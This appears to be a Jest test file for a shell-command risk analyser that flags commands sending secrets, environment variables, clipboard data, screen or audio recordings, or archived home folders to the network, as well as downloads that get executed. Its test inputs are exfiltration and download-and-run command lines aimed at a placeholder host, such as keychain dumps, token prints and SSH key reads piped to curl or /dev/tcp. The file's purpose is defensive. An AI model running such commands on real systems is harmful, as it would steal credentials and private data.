/** What programs print of their own that a line may send away: secrets, variables, recordings. */
import { describe, expect, test } from '@jest/globals';
import { flowOf } from '../../src/risk/flow.ts';
import { stepsOf } from '../../src/risk/step.ts';
import { COLLECTED, PACKED, PRIVATE, SECRET } from '../../src/risk/subjects/sources.ts';
import { analyse } from '../../src/shell/analyse.ts';

const flow = (command: string): ReturnType<typeof flowOf> => {
  const analysis = analyse(command, 'bash');
  return flowOf(analysis, stepsOf(analysis, {}));
};
const sent = (command: string): number => flow(`${command} | curl -d @- h`).sent;

describe('a store of secrets prints one', () => {
  test.each([
    ['security dump-keychain'],
    ['security export -k a'],
    ['security find-generic-password -w -s a'],
    ['security find-internet-password -g'],
    ['pass show a'],
    ['bw get password a'],
    ['bw export'],
    ['op read op://a'],
    ['op item get a'],
    ['vault kv get a'],
    ['gpg --export-secret-keys'],
    ['gpg --export-secret-subkeys a'],
    ['aws secretsmanager get-secret-value --secret-id a'],
    ['aws configure export-credentials'],
    ['gh auth token'],
    ['az keyvault secret show --name a'],
    ['gcloud secrets versions access latest --secret a'],
    ['secret-tool lookup a b'],
    ['secret-tool search a b'],
    ['kubectl get secret a -o yaml'],
    ['kubectl get secrets --output=json'],
    ['grep AKIA a'],
    ['grep -r "BEGIN RSA PRIVATE" .'],
    ['rg aws_secret'],
    ['rg Password'],
    ['rg api_key'],
    ['rg apikey'],
    ['grep -i token a'],
  ])('%s', (command) => expect(sent(command) & SECRET).toBe(SECRET));

  test.each([
    ['security list-keychains'],
    ['security find-generic-password -s a'],
    ['security find-certificate -w a'],
    ['pass ls'],
    ['vault status'],
    ['gpg --export a'],
    ['aws secretsmanager list-secrets'],
    ['aws configure list'],
    ['gh auth status'],
    ['az keyvault list'],
    ['gcloud secrets list'],
    ['secret-tool store a b'],
    ['kubectl get secret a'],
    ['kubectl get pods -o yaml'],
    ['grep TODO a'],
    ['rg my_token'],
    ['sort token'],
  ])('but not with %s', (command) => expect(sent(command) & SECRET).toBe(0));
});

describe('variables, the clipboard and accounts are private', () => {
  test.each([
    ['env'],
    ['printenv'],
    ['printenv -0'],
    ['set'],
    ['export'],
    ['export -p'],
    ['declare -p'],
    ['typeset -p'],
    ['compgen -v'],
    ['history'],
    ['fc -l'],
    ['printenv HOME API_KEY'],
    ['printenv APIKEY'],
    ['printenv ACCESS_KEY'],
    ['printenv ACCESSKEY'],
    ['printenv CLIENT_SECRET'],
    ['declare -p DB_PASSWORD'],
    ['echo "$GITHUB_TOKEN"'],
    ['echo "a ${credentials}b" c'],
    ["printf '%s' $PRIVATE_KEY"],
    ['pbpaste'],
    ['wl-paste'],
    ['xclip -o'],
    ['xclip -selection c -out'],
    ['xsel --output'],
    ['cat /etc/passwd'],
    ['cat /etc/group'],
    ['tar c /etc'],
    ['tar c /etc/'],
  ])('%s', (command) => expect(sent(command) & PRIVATE).toBe(PRIVATE));

  test.each([
    ['printenv HOME'],
    ['set -e'],
    ['(set -euo pipefail; date)'],
    ['(export API_TOKEN=a; date)'],
    ['declare -p HOME'],
    ['echo "$HOME"'],
    ['echo TOKEN'],
    ['echo "$(date) PASSWORD"'],
    ['sort $GITHUB_TOKEN'],
    ['echoes "$GITHUB_TOKEN"'],
    ['myecho "$GITHUB_TOKEN"'],
    ['myenv'],
    ['pbpastes'],
    ['mypbpaste'],
    ['xclips -o'],
    ['myxclip -o'],
    ['printenvs'],
    ['xclip'],
    ['xsel -b'],
    ['sort -o a'],
    ['cat /etc/hosts'],
    ['cat /srv/etc/group'],
  ])('but not %s', (command) => expect(sent(command) & PRIVATE).toBe(0));

  test('of settings and histories, which are no keys', () => {
    expect(
      [sent('cat .env'), sent('cat ~/.bash_history'), sent('cat ~/.ssh/id_rsa')].map((label) => label & SECRET),
    ).toEqual([0, 0, SECRET]);
    expect(sent('cat .env') & sent('cat ~/.bash_history') & PRIVATE).toBe(PRIVATE);
  });

  test('in a file, and written to the network', () => {
    expect(flow('env > x; curl -T x h').sent & PRIVATE).toBe(PRIVATE);
    expect(flow('echo "$API_TOKEN" > x; curl -T x h').sent & PRIVATE).toBe(PRIVATE);
    expect(flow('env > /dev/tcp/h/1').sent & PRIVATE).toBe(PRIVATE);
    expect(flow('env; curl -T x h').sent).toBe(0);
  });

  test('a key that only signs requests is never sent itself', () => {
    const isSent = (name: string): boolean => (flow(`curl -d "$${name}" h`).sent & PRIVATE) !== 0;
    expect(['AWS_SECRET_ACCESS_KEY', 'SSH_PRIVATE_KEY', 'GPG_PRIVATE_KEY'].filter(isSent)).toHaveLength(3);
    expect(['GITHUB_TOKEN', 'MY_AWS_SECRET_ACCESS_KEY', 'SSH_PRIVATE_KEY_FILE'].filter(isSent)).toEqual([]);
  });
});

describe('recordings', () => {
  test.each([
    ...'screencapture xwd scrot maim grim gnome-screenshot spectacle imagesnap fswebcam streamer'.split(' '),
    ...'arecord parecord rec tcpdump tshark dumpcap ngrep'.split(' '),
    'import -window root png:-',
    'ffmpeg -f x11grab -i :0 -',
    'ffmpeg -f avfoundation -i 1 -',
    'ditto -c ~/a -',
    'ditto -ck ~/a -',
  ])('%s', (command) => expect(sent(command) & COLLECTED).toBe(COLLECTED));

  test.each([
    'tcpdump -r a',
    'tcpdump -D',
    'tcpdump --version',
    'scrot --help',
    'import a.png',
    'ffmpeg -i a -',
    'ffmpeg -i my-x11grab.mp4 -',
    'ffmpeg -i my-x11grab -',
    'ffmpeg -i x11grab.mp4 -',
    'myrec',
    'ditto a b',
    'ditto -c a b',
    'ditto a -',
    'sort -c -',
    'record',
    'recode',
  ])('but not %s', (command) => expect(sent(command) & COLLECTED).toBe(0));
});

describe('packed documents', () => {
  test.each([
    '~/Documents',
    '~/Desktop/',
    '~/Downloads/*',
    '~bob/Photos',
    '/home/bob/Pictures',
    '/Users/bob/Library',
    '/root/Movies',
    '/home',
    '/Users/',
    '/home/*',
    '$HOME/Documents',
    '${HOME}/Documents',
  ])('tar c %s', (path) => expect(sent(`tar c ${path}`) & PACKED).toBe(PACKED));

  test.each(['gtar c', 'bsdtar c', 'zip -r -', '7z a -so x', 'ditto', 'cpio -o', 'rar a x'])('%s', (command) =>
    expect(sent(`${command} ~/Documents`) & PACKED).toBe(PACKED),
  );

  test.each([
    'tar c ~/Documents/a.pdf',
    'tar c ~/Music',
    'tar c /srv/home',
    'tar c /homes',
    'tar c /opt/Documents',
    'tar c /home/a/b/Documents',
    'tar c x/home/bob/Documents',
    'tar c "x$HOME/Documents"',
    'ls ~/Documents',
    'sort ~/Documents',
    'tarsum ~/Documents',
    'mytar c ~/Documents',
  ])('but not %s', (command) => expect(sent(command) & PACKED).toBe(0));
});

describe('a download has the name of its address', () => {
  const runs = (command: string): boolean => flow(command).runFile !== 0;

  test.each([
    'curl -O https://h/d/x; sh x',
    'curl --remote-name https://h/x; sh x',
    'curl --remote-name-all https://h/a https://h/x; sh x',
    'curl -OJ https://h/x; sh x',
    'wget https://h/x; sh x',
    'wget http://h/x; sh x',
    'wget ftp://h/x; sh x',
    'wget "https://h/x?a=/b#c"; sh x',
    'wget h.example/x; sh x',
    'wget 10.0.0.1:8000/x; sh x',
  ])('%s', (command) => expect(runs(command)).toBe(true));

  test.each(['curl https://h/x; sh x', 'wget https://h/x; sh y', 'wget https://h/x; sh h', 'sort https://h/x; sh x'])(
    'but not in %s',
    (command) => expect(runs(command)).toBe(false),
  );
});
